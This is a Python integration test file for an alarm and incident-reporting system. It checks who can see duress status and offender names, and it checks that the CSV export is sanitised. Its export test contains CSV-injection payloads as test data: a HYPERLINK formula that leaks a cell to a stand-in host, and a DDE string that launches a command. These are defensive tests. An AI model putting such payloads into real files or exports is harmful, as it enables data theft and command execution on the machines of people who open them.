"""Who learns what against a running code4 (issue 9): the fact "duress" reaches only the
control room and the responders who are coming; offender names only the coordinator. Every
API answer and page each reader can open is searched, in Dutch and English."""

from __future__ import annotations

import asyncio
import csv
import io
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qsl

import pytest

from tests.integration.harness import Harness

DURESS_WORDS = ("duress", "dwang")
OFFENDER = ("Henk de Boer", "Dorpsstraat 12")


@dataclass
class DuressAlarm:
    uid: str
    incident: int
    tokens: dict[str, str]
    declined_page: str  # Fatima's, who cannot come


@pytest.fixture
async def duress(code4: Harness) -> DuressAlarm:
    """Knop balie 1: Sanne (a colleague) accepts; then the duress PIN "cancels" it, which
    escalates to the BHV; a genuine cancel afterwards is ignored; Jan (BHV) accepts, Fatima
    declines; the control room notes what it knows. The coordinator records Eva as the person
    affected (team lead: Marieke) and Henk de Boer as the offender."""
    tokens = {
        "coordinator": await code4.add_user("coco", ["coordinator"], name="Coco Coördinator"),
        "lead": await code4.add_user("marieke", ["employee"], person="marieke"),
        "affected": await code4.add_user("eva", ["employee"], person="eva"),
        "responder": await code4.add_user("jan", ["responder", "employee"], person="jan"),
        "operator": code4.token or "",
        "operator+coordinator": await code4.add_user("ops", ["operator", "coordinator"]),
    }
    sanne, jan, fatima = code4.pager("pager-sanne"), code4.pager("pager-jan"), code4.pager("pager-fatima")
    code4.pager("pager-mohamed")
    button = code4.button("knop-balie-1")
    alarm_id = button.press()
    first = await code4.wait(sanne.page)
    sanne.respond(first["page_id"], "accept")
    await code4.alarm_when(lambda a: a["status"] == "accepted")
    button.cancel(alarm_id, pin="9999")
    await code4.wait(button.feedback, "closed")
    bhv = await code4.wait(jan.page)
    button.cancel(alarm_id, pin="1234")
    jan.respond(bhv["page_id"], "accept")
    declined = (await code4.wait(fatima.page))["page_id"]
    fatima.respond(declined, "decline")
    alarm = await code4.alarm_when(lambda a: len(a["responders"]) == 2)
    uid, incident = alarm["uid"], int(alarm["incident_id"])
    await _until_timeline_has(code4, uid, "cancel_ignored_after_duress")
    await _until_timeline_has(code4, uid, "declined")
    await code4.api(f"/api/alarms/{uid}/notes", method="POST", json={"text": "Dwang-PIN gebruikt, politie gebeld."})

    coordinator = tokens["coordinator"]
    patched = await code4.call(coordinator, f"/api/incidents/{incident}", method="PATCH", json={
        "affected_person_id": "eva", "description": "Klant eiste geld en dreigde.",
        "offenders": "Henk de Boer, Dorpsstraat 12", "abcd_class": "D", "aggression_forms": ["intimidatie"]})
    assert patched.status_code == 200, patched.text
    linked = await code4.call(coordinator, f"/api/incidents/{incident}/offenders", method="POST",
                              json={"name": "Henk de Boer", "address": "Dorpsstraat 12, 1234 AB Testdorp"})
    assert linked.status_code == 200, linked.text
    return DuressAlarm(uid, incident, tokens, declined)


async def _until_timeline_has(code4: Harness, uid: str, kind: str) -> None:
    for _ in range(200):
        if any(e["kind"] == kind for e in (await code4.api(f"/api/alarms/{uid}"))["timeline"]):
            return
        await asyncio.sleep(0.02)
    raise AssertionError(f"no {kind} on the timeline of {uid}")


def reachable(d: DuressAlarm) -> list[str]:
    """Every API answer and page about alarms and incidents, in both languages."""
    api = ["/api/alarms", "/api/alarms?state=all", f"/api/alarms/{d.uid}", f"/api/alarms/{d.uid}?lang=en",
           "/api/incidents", f"/api/incidents/{d.incident}", f"/api/incidents/{d.incident}?lang=en",
           "/api/me/reports", "/api/tasks", "/api/learning/summary", "/api/learning/quarterly?quarter=2026-Q4",
           "/api/learning/incidents.csv", "/api/me/callouts", "/api/bans"]
    pages = [f"/board/alarms/{d.uid}", "/incidents", f"/incidents/{d.incident}", "/me/reports", "/me",
             "/learning", "/learning/quarterly?q=2026-Q4", "/bans"]
    return api + [f"{p}{'&' if '?' in p else '?'}lang={lang}" for p in pages for lang in ("nl", "en")]


async def answers(code4: Harness, token: str, paths: list[str]) -> dict[str, str]:
    """What each path told this reader (the body of anything it could open)."""
    seen = {}
    for path in paths:
        base, _, query = path.partition("?")
        response = await code4.call(token, base, **dict(parse_qsl(query)))
        assert response.status_code in (200, 403), (path, response.status_code, response.text[:200])
        if response.status_code == 200:
            seen[path] = response.text
    return seen


def mentions(seen: dict[str, str], words: tuple[str, ...]) -> list[str]:
    return [f"{path}: {word}" for path, text in seen.items() for word in words if word.lower() in text.lower()]


async def close(code4: Harness, d: DuressAlarm) -> None:
    await code4.api(f"/api/alarms/{d.uid}/close", method="POST",
                    json={"outcome": "resolved", "note": "Dwang bevestigd, dader vertrokken."})


@pytest.mark.parametrize("reader", ["coordinator", "lead", "affected", "responder"])
async def test_duress_reaches_nobody_but_the_control_room(code4: Harness, duress: DuressAlarm, reader: str) -> None:
    token = duress.tokens[reader]
    running = await answers(code4, token, reachable(duress))
    await close(code4, duress)
    closed = await answers(code4, token, reachable(duress))
    for seen in (running, closed):
        assert mentions(seen, DURESS_WORDS) == [], seen
    # Not an empty test: each of them opened this alarm's record, or their call-out while it ran.
    opened = "/api/me/callouts" if reader == "responder" else f"/api/incidents/{duress.incident}"
    assert duress.uid in running[opened], reader
    if reader in ("coordinator", "lead", "affected"):
        record = (await code4.call(token, f"/api/incidents/{duress.incident}")).json()
        kinds = [e["kind"] for e in record["timeline"]]
        assert {"escalated", "accepted", "closed"} <= set(kinds), "once closed, the rest of the story is there"
        escalated = next(e for e in record["timeline"] if e["kind"] == "escalated")
        assert escalated["text"] == "Opgeschaald van collega naar bhv: ernstig alarm"


async def test_while_it_runs_the_person_affected_sees_the_alarm_as_the_device_shows_it(
        code4: Harness, duress: DuressAlarm) -> None:
    """An aggressor who made them "cancel" may be looking at their screen: no help still coming."""
    eva = duress.tokens["affected"]
    record = (await code4.call(eva, f"/api/incidents/{duress.incident}")).json()
    assert [r["name"] for r in record["responders"]] == ["Sanne de Jong"], "who came before the cancel"
    assert record["timeline"][-1]["kind"] == "help_organised"
    page = (await code4.call(eva, f"/incidents/{duress.incident}")).text
    assert "Jan de Vries" not in page and 'id="alarm-open"' not in page
    await close(code4, duress)
    record = (await code4.call(eva, f"/api/incidents/{duress.incident}")).json()
    assert [r["name"] for r in record["responders"]] == ["Sanne de Jong", "Jan de Vries"]
    assert "Jan de Vries" in (await code4.call(eva, f"/incidents/{duress.incident}")).text


async def test_the_coordinator_sees_the_alarm_without_its_duress(code4: Harness, duress: DuressAlarm) -> None:
    detail = (await code4.call(duress.tokens["coordinator"], f"/api/alarms/{duress.uid}")).json()
    assert "duress" not in detail["alarm"], "not even as null: the key itself says there is something to hide"
    assert detail["alarm"]["severe"] and detail["alarm"]["step"]["id"] == "bhv"


@pytest.mark.parametrize("reader", ["operator", "operator+coordinator"])
async def test_the_control_room_sees_duress_everywhere(code4: Harness, duress: DuressAlarm, reader: str) -> None:
    token = duress.tokens[reader]
    detail = (await code4.call(token, f"/api/alarms/{duress.uid}")).json()
    assert detail["alarm"]["duress"] is True
    kinds = [e["kind"] for e in detail["timeline"]]
    assert "duress" in kinds and "cancel_ignored_after_duress" in kinds
    [listed] = (await code4.call(token, "/api/alarms")).json()["items"]
    assert listed["duress"] is True
    record = (await code4.call(token, f"/api/incidents/{duress.incident}", lang="en")).json()
    assert "DURESS: cancelled with the duress PIN" in [e["text"] for e in record["timeline"]]
    assert "Notitie: Dwang-PIN gebruikt, politie gebeld." in [e["text"] for e in detail["timeline"]]
    for page in (f"/board/alarms/{duress.uid}", f"/incidents/{duress.incident}"):
        assert "DWANG" in (await code4.call(token, page, lang="nl")).text, page
    assert 'id="alarm-open"' in (await code4.call(token, f"/incidents/{duress.incident}")).text
    await close(code4, duress)
    record = (await code4.call(token, f"/api/incidents/{duress.incident}")).json()
    assert record["timeline"][-1]["data"]["note"] == "Dwang bevestigd, dader vertrokken."


async def test_the_responders_who_are_coming_are_told(code4: Harness, duress: DuressAlarm) -> None:
    """By design: those coming must approach with care (their page, SMS and call say so)."""
    [callout] = (await code4.call(duress.tokens["responder"], "/api/me/callouts")).json()
    assert callout["status"] == "accepted"
    assert code4.service is not None
    page = await code4.call(duress.tokens["responder"], callout["link"].replace(code4.service.http_url, ""))
    assert "DWANG" in page.text and 'id="duress" class="duress" hidden' not in page.text
    # Fatima said she cannot come: she is not coming, so her page does not say it.
    link = code4.service.links.url(duress.declined_page).replace(code4.service.http_url, "")
    declined = (await code4.call(duress.tokens["responder"], f"{link}/view")).json()
    assert (declined["status"], declined["duress"]) == ("declined", False)
    assert 'id="duress" class="duress" hidden' in (await code4.call(duress.tokens["responder"], link)).text


async def test_offender_names_are_for_the_coordinator_only(code4: Harness, duress: DuressAlarm) -> None:
    paths = reachable(duress)
    for reader in ("lead", "affected"):
        seen = await answers(code4, duress.tokens[reader], paths)
        assert f"/api/incidents/{duress.incident}" in seen and f"/incidents/{duress.incident}?lang=nl" in seen
        assert mentions(seen, OFFENDER) == [], reader
        record = (await code4.call(duress.tokens[reader], f"/api/incidents/{duress.incident}")).json()
        assert record["offenders_linked"] == 1, "that there is an offender, not who"
        assert record["registration"]["description"] == "Klant eiste geld en dreigde."
    coordinator = await answers(code4, duress.tokens["coordinator"], paths)
    assert f"/api/incidents/{duress.incident}: Henk de Boer" in mentions(coordinator, OFFENDER)
    assert f"/incidents/{duress.incident}?lang=nl: Henk de Boer" in mentions(coordinator, OFFENDER)
    record: dict[str, Any] = (await code4.call(duress.tokens["coordinator"],
                                               f"/api/incidents/{duress.incident}")).json()
    assert record["registration"]["offenders"] == "Henk de Boer, Dorpsstraat 12"


# ---- the CSV export --------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"Klik")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ADDRESS = "Dorpsstraat 12, 1234 AB Testdorp"


async def test_the_csv_export_carries_no_formula_and_no_typed_address(code4: Harness) -> None:
    coordinator = await code4.add_user("coco", ["coordinator"])
    sanne = await code4.add_user("sanne", ["employee"], person="sanne")
    # A report from home: the "where" is an address, the rest free text with formulas.
    report = await code4.call(sanne, "/api/reports", method="POST", json={
        "contact_kind": "home_visit", "location": f"{ADDRESS} {FORMULA}", "description": SUM,
        "aggression_forms": ["verbaal_geweld"], "injury": FORMULA})
    assert report.status_code == 201, report.text
    patched = await code4.call(coordinator, f"/api/incidents/{report.json()['id']}", method="PATCH", json={
        "offenders": f"Henk de Boer, {ADDRESS}", "damage_description": SUM, "aftercare": FORMULA,
        "police_report": True, "police_report_reference": SUM[:50], "reporter": FORMULA})
    assert patched.status_code == 200, patched.text
    # A place typed by hand; an earlier system's record with an address for its place.
    typed = await code4.call(sanne, "/api/reports", method="POST", json={
        "contact_kind": "counter", "site_id": "stadhuis", "location": SUM, "description": "Schelden."})
    assert typed.status_code == 201, typed.text
    earlier = {"occurred_at": "2026-11-02T09:15:00+01:00", "source": "alarm", "kind": "panic", "site_id": "stadhuis",
               "location": ADDRESS, "abcd_class": "C", "aggression_forms": ["verbaal_geweld"], "description": SUM}
    # A kind is code4's word, not free text; a channel fits its column (no 500 on PostgreSQL).
    refused = await code4.call(coordinator, "/api/incidents/import", method="POST", json={"incidents": [
        {**earlier, "kind": FORMULA},
        {**earlier, "timeline": [{"at": "2026-11-02T08:15:00Z", "kind": "alarm_raised", "channel": SUM}]}]})
    assert refused.status_code == 422, refused.text
    assert refused.json()["detail"]["errors"] == {"0.kind": "Kies een van de mogelijkheden.",
                                                  "1.timeline": "Te lang."}
    imported = await code4.call(coordinator, "/api/incidents/import", method="POST", json={"incidents": [earlier]})
    assert imported.status_code == 201, imported.text
    # An alarm: its place comes from the agreement file and is exported.
    code4.pager("pager-sanne")
    code4.button("knop-balie-1").press()
    await code4.alarm_when(lambda a: a["status"] == "notifying")

    export = await code4.call(coordinator, "/api/learning/incidents.csv", since="2026-01-01")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert len(rows) == 4
    for text in ("HYPERLINK", "SUM", "Dorpsstraat", "Henk", "calc"):
        assert text not in export.text, text
    formulas = tuple("=+-@\t\r")
    assert [(row["id"], name, cell) for row in rows for name, cell in row.items() if cell.startswith(formulas)] == []
    assert {row["location"] for row in rows} == {"", "Balie 1, Publiekshal, Stadhuis Testdorp"}
    assert {row["kind"] for row in rows} == {"", "panic"}
    assert {row["site"] for row in rows} == {"", "Stadhuis Testdorp"}
